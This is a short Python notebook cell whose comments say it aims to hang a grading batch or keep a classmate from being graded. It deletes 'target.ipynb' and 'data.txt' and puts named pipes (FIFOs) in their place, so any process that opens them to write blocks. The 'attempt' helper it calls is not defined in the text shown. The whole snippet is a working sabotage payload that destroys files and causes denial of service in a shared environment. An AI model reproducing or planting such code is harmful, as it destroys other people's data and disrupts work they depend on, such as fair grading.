# Leaves a pipe under the notebook's own name: whoever opens it to write waits for a reader.
# Success: the batch hangs, or a classmate is not graded.
# %% last
import os

for name in ("target.ipynb", "data.txt"):
    attempt(os.remove, name)
    attempt(os.mkfifo, name)
